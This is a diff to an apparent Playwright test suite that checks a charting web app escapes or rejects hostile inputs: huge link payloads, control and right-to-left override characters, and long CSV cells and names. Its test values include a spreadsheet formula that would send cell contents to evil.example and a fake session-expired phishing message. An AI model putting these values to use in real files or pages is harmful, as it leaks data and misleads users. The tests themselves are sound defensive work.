@@ -40,6 +40,15 @@ test('a link with a key of a megabyte, and files with names and numbers that no 
   );
   expect(await sidewaysScroll(page)).toBe(0);
 
+  const words = 'Your session has expired, sign in at evil.example. '.repeat(2_000);
+  for (const json of [JSON.stringify(words), JSON.stringify({ view: words, lesson: words })]) {
+    await page.evaluate((hash) => location.assign(hash), linkTo(json));
+    await expect(lab.alert).toHaveText(
+      /^The link could not be opened: what it holds is no experiment\. (An experiment|A view) must be an object[^.]*\. The lab is as it was\.$/,
+    );
+    expect(await sidewaysScroll(page)).toBe(0);
+  }
+
   await lab.openPanel();
   await lab.import('huge.json', exported('huge', [1, 1.7e308, -1.7e308]));
   await expect(lab.panel).toContainText(
@@ -48,12 +57,23 @@ test('a link with a key of a megabyte, and files with names and numbers that no 
   for (const [name, shown] of [
     ['ctl\u0001\b\ufffe', 'ctl␁␈\\u{fffe}'],
     ['=HYPERLINK("http://evil.example/?"&A1)\nx', '=HYPERLINK("http://evil.example/?"&A1)␊x'],
-    ['\u202e'.repeat(180), '\\u{202e}'.repeat(24)],
+    ['\u202e'.repeat(180), `${'\\u{202e}'.repeat(9)}\\u{202e…`],
   ] as const) {
     await lab.import('named.json', exported(name, [10, 11, 12]));
     await expect(lab.history.filter({ hasText: shown })).toBeVisible();
     expect(await sidewaysScroll(page)).toBe(0);
   }
+  // the dialog that asks about a table quotes as well
+  const cell = `\u202e${'x'.repeat(500)}`;
+  await lab.import(`${'y'.repeat(200)}.csv`, `${cell},b\n${cell},2\n${cell},3\n`);
+  const dialog = page.getByRole('dialog', { name: `Columns of ${'y'.repeat(79)}…` });
+  await expect(dialog.getByRole('cell').first()).toHaveText(`\\u{202e}${'x'.repeat(71)}…`);
+  await dialog.getByRole('button', { name: 'Leave it out' }).click();
+
+  await lab.import('named.json', exported('ctl\u0001', [10, 11, 12]));
+  await expect(lab.history.filter({ hasText: 'ctl␁' })).not.toHaveCount(0);
+  expect((await lab.download('Download SVG')).contents.toString()).toContain('ctl␁');
+  expect((await lab.download('Download PNG')).name).toBe('chart.png');
   // the curves stand in the chart's table under their names
   expect((await lab.data()).map(([experiment]) => experiment)).toContain('ctl␁␈\\u{fffe}');
 });
